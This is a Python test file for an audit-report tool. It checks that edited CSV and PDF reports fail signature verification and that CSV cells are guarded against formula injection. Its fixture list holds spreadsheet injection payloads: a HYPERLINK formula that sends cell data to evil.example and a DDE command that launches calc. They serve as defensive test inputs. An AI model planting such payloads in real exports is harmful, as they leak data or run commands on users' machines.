"""Documents handed back to ``ronde audit verify`` after someone edited them.

The store is untouched in every case here: what changed is the report the landlord holds (its
figures, the file, the manifest). Each case must answer FAILED with the reason, and a report that
was not edited must still verify. Store tampering is covered by tests/audit/test_verify.py.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from ronde.audit.export import MANIFEST_PREFIX, ReportFormat, read_report, write_report
from ronde.audit.keys import load_signing_key
from ronde.audit.labels import Lang
from ronde.audit.report import build_report
from ronde.audit.verify import VerifyResult, verify_manifest
from ronde.protocol.calendar import ServiceCalendar
from ronde.protocol.csv_cells import FORMULA_TRIGGERS
from ronde.protocol.estate import Landlord, Registry
from ronde.store.records import WriteBatch
from ronde.store.sqlite import SqliteStore
from tests.audit.conftest import DAYS, week_visits
from tests.coverage.factory import local, registry

CAL = ServiceCalendar()
NOW = local(date(2026, 11, 20), 12)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteStore]:
    s = SqliteStore(tmp_path / "ronde.db")
    s.open()
    s.write(WriteBatch(visits=tuple(week_visits())))
    yield s
    s.close()


def _issue(
    store: SqliteStore,
    out: Path,
    fmt: ReportFormat,
    *,
    landlord: str = "paris-habitat",
    reg: Registry | None = None,
    lang: Lang = Lang.FR,
) -> Path:
    report = build_report(store, reg or registry(), CAL, landlord, DAYS[0], DAYS[-1], now=NOW)
    write_report(report, out, fmt, lang, load_signing_key())
    return out


def _verify(path: Path, store: SqliteStore) -> VerifyResult:
    manifest, problems = read_report(path)
    return verify_manifest(manifest, store, public_key=load_signing_key().public_key(), document_problems=problems)


def _edit_csv(path: Path, edit: dict[tuple[str, int], str]) -> None:
    """Change cells as a spreadsheet user would: (first cell of the row, column) → new text."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8")), delimiter=";"))
    for row in rows:
        for (first, col), value in edit.items():
            if row and row[0] == first:
                row[col] = value
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def test_untouched_reports_verify(store: SqliteStore, tmp_path: Path) -> None:
    for fmt in ReportFormat:
        result = _verify(_issue(store, tmp_path / f"r.{fmt}", fmt), store)
        assert result.ok, result.message()
        assert result.message().startswith("OK: ")
        assert "signed, document intact" in result.message()


def test_a_edited_csv_figures_fail_and_are_named(store: SqliteStore, tmp_path: Path) -> None:
    """(a) passes 6 → 99 for hall 'a' and Friday's coverage 66,7 % → 100 % in report.csv."""
    report = _issue(store, tmp_path / "report.csv", ReportFormat.CSV)
    text = report.read_text(encoding="utf-8")
    assert "2026-11-06;66,7 %;" in text
    assert "\na;Point a;" in text
    _edit_csv(report, {("a", 7): "99", ("2026-11-06", 1): "100,0 %"})
    result = _verify(report, store)
    assert not result.ok
    msg = result.message()
    assert msg.startswith("FAILED: ")
    assert "DOCUMENT ALTERED: report.csv: checkpoint a: passes: 99 in the document, 6 signed" in msg
    assert "day 2026-11-06: share: '100.0' in the document, '66.7' signed" in msg
    assert result.signature_problem is None
    assert result.difference.ok  # the manifest and store are intact


def test_a_edited_csv_and_embedded_manifest_break_the_signature(store: SqliteStore, tmp_path: Path) -> None:
    """Editing the figures in the embedded manifest too, consistently, needs the private key."""
    report = _issue(store, tmp_path / "report.csv", ReportFormat.CSV)
    rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8")), delimiter=";"))
    for row in rows:
        if row and row[0].startswith(MANIFEST_PREFIX):
            data = json.loads(row[0][len(MANIFEST_PREFIX) :])
            next(c for c in data["figures"]["checkpoints"] if c["id"] == "a")["passes"] = 99
            row[0] = MANIFEST_PREFIX + json.dumps(data, ensure_ascii=False)
        elif row and row[0] == "a":
            row[7] = "99"
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerows(rows)
    report.write_text(out.getvalue(), encoding="utf-8")
    result = _verify(report, store)
    assert not result.ok
    assert "SIGNATURE: the signature does not match the manifest" in result.message()
    assert "figures_sha256 is not the digest" in result.message()


def test_b_another_landlords_pdf_with_recomputed_digest_fails(store: SqliteStore, tmp_path: Path) -> None:
    """(b) the PDF replaced by another landlord's, file_sha256 recomputed in the sidecar."""
    mine = _issue(store, tmp_path / "report.pdf", ReportFormat.PDF)
    theirs = _issue(store, tmp_path / "theirs.pdf", ReportFormat.PDF, landlord="other")
    mine.write_bytes(theirs.read_bytes())
    sidecar = tmp_path / "report.pdf.manifest.json"
    data = json.loads(sidecar.read_text(encoding="utf-8"))
    data["file_sha256"] = hashlib.sha256(mine.read_bytes()).hexdigest()
    sidecar.write_text(json.dumps(data, indent=2), encoding="utf-8")
    result = _verify(mine, store)
    assert not result.ok
    assert "SIGNATURE: the signature does not match the manifest: it was edited after it was issued" in result.message()


def test_b_pdf_replaced_without_touching_the_sidecar_fails(store: SqliteStore, tmp_path: Path) -> None:
    mine = _issue(store, tmp_path / "report.pdf", ReportFormat.PDF)
    mine.write_bytes(_issue(store, tmp_path / "theirs.pdf", ReportFormat.PDF, landlord="other").read_bytes())
    result = _verify(mine, store)
    assert not result.ok
    assert result.signature_problem is None
    assert "DOCUMENT ALTERED: report.pdf is not the file the manifest was signed for" in result.message()


@pytest.mark.parametrize("fmt", list(ReportFormat))
def test_c_dropped_last_day_fails_as_incomplete(store: SqliteStore, tmp_path: Path, fmt: ReportFormat) -> None:
    """(c) the last day's link dropped from the manifest and ``final`` set to the previous link."""
    report = _issue(store, tmp_path / f"report.{fmt}", fmt)

    def drop(data: dict[str, object]) -> dict[str, object]:
        chain = data["chain"]
        assert isinstance(chain, dict)
        chain["links"] = chain["links"][:-1]
        chain["final"] = chain["links"][-1]["link"]
        return data

    if fmt is ReportFormat.PDF:
        sidecar = tmp_path / "report.pdf.manifest.json"
        sidecar.write_text(json.dumps(drop(json.loads(sidecar.read_text(encoding="utf-8")))), encoding="utf-8")
    else:
        rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8")), delimiter=";"))
        for row in rows:
            if row and row[0].startswith(MANIFEST_PREFIX):
                row[0] = MANIFEST_PREFIX + json.dumps(drop(json.loads(row[0][len(MANIFEST_PREFIX) :])))
        rows = [r for r in rows if not (r and r[0] == "2026-11-11")]
        out = io.StringIO()
        csv.writer(out, delimiter=";", lineterminator="\n").writerows(rows)
        report.write_text(out.getvalue(), encoding="utf-8")
    result = _verify(report, store)
    assert not result.ok
    msg = result.message()
    assert "SIGNATURE: " in msg
    assert "INCOMPLETE: service days of the period without a link (dropped from the report): 2026-11-11" in msg
    assert "FIRST DAY THAT DIFFERS: 2026-11-11" in msg  # and the store still has that day's events


def test_unsigned_or_foreign_key_manifest_fails(store: SqliteStore, tmp_path: Path) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from ronde.audit.keys import sign_manifest

    report = _issue(store, tmp_path / "report.pdf", ReportFormat.PDF)
    sidecar = tmp_path / "report.pdf.manifest.json"
    data = json.loads(sidecar.read_text(encoding="utf-8"))
    del data["signature"]
    sidecar.write_text(json.dumps(data), encoding="utf-8")
    assert "SIGNATURE: the manifest is not signed" in _verify(report, store).message()
    sidecar.write_text(json.dumps(sign_manifest(data, Ed25519PrivateKey.generate())), encoding="utf-8")
    msg = _verify(report, store).message()
    assert msg.startswith("FAILED")
    assert "not with the audit key" in msg


def test_cli_names_the_edited_figure(store: SqliteStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from ronde.audit.keys import public_key_text
    from ronde.cli import main
    from ronde.protocol.estate import load_default_estate
    from tests.api.support import make_database

    reg = load_default_estate()
    make_database(tmp_path).dispose()  # the server reports from its operational database, never an estate file
    cid = reg.checkpoints_of("paris-habitat")[0].id
    db = tmp_path / "cli.db"
    s = SqliteStore(db)
    s.open()
    from tests.coverage.factory import visit

    s.write(WriteBatch(visits=tuple(visit(reg, cid, d, local(d, 17), local(d, 17, 5)) for d in DAYS[:5])))
    s.close()
    out = tmp_path / "rapport.csv"
    assert (
        main(
            [
                "audit",
                "report",
                "--landlord",
                "paris-habitat",
                "--from",
                "2026-11-04",
                "--to",
                "2026-11-08",
                "--store",
                str(db),
                "--database",
                f"sqlite:///{tmp_path / 'opdb.db'}",  # the sample estate (make_database below)
                "--format",
                "csv",
                "--out",
                str(out),
            ]
        )
        == 0
    )
    assert main(["audit", "key"]) == 0
    printed = capsys.readouterr().out
    key = public_key_text(load_signing_key())
    assert f"public key (Ed25519, base64url): {key}" in printed
    assert "fingerprint: " in printed
    assert main(["audit", "verify", str(out), "--store", str(db), "--public-key", key]) == 0
    capsys.readouterr()
    _edit_csv(out, {(cid, 7): "7"})
    assert main(["audit", "verify", str(out), "--store", str(db), "--public-key", key]) == 1
    printed = capsys.readouterr().out
    assert printed.startswith("FAILED")
    assert f"checkpoint {cid}: passes: 7 in the document, 5 signed" in printed


# ---- CSV formula injection ---------------------------------------------------------------------


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "+33 1 23",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
    "'déjà cité",
    "Bâtiment; =1+1",
    "normal",
]


def _hostile_registry() -> Registry:
    reg = registry()
    cps = dict(reg.checkpoints)
    for cid, name in zip(("a", "b", "u"), HOSTILE_NAMES[:3], strict=True):
        cps[cid] = replace(cps[cid], name=name)
    landlords = {**reg.landlords, "paris-habitat": Landlord("paris-habitat", "=cmd|' /C calc'!A0", 2891)}
    return replace(reg, checkpoints=cps, landlords=landlords)


@pytest.mark.parametrize("lang", list(Lang))
def test_csv_neutralises_formula_names_and_still_verifies(store: SqliteStore, tmp_path: Path, lang: Lang) -> None:
    reg = _hostile_registry()
    report = _issue(store, tmp_path / "report.csv", ReportFormat.CSV, reg=reg, lang=lang)
    text = report.read_text(encoding="utf-8")
    delimiter = ";" if lang is Lang.FR else ","
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
    dangerous = [c for c in cells if c and c[0] in FORMULA_TRIGGERS]
    assert dangerous == []
    for name in HOSTILE_NAMES[:3]:
        assert "'" + name in cells
    header = next(c for c in cells if c.startswith("# Bailleur: ") or c.startswith("# Landlord: "))
    assert "=cmd|' /C calc'!A0 (paris-habitat)" in header  # inside a '#' cell: shown, never a cell of its own
    result = _verify(report, store)
    assert result.ok, result.message()
    manifest, _ = read_report(report)
    shown = {c["id"]: c["name"] for c in manifest.figures["checkpoints"]}
    assert [shown[x] for x in ("a", "b", "u")] == HOSTILE_NAMES[:3]


def test_neutralise_cell_is_the_owasp_rule_and_reversible() -> None:
    from ronde.protocol.csv_cells import neutralise_cell, restore_cell

    for name in HOSTILE_NAMES:
        cell = neutralise_cell(name)
        assert restore_cell(cell) == name
        assert cell[0] not in FORMULA_TRIGGERS
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("\t1") == "'\t1"
    assert neutralise_cell("normal") == "normal"
    assert neutralise_cell(42) == 42
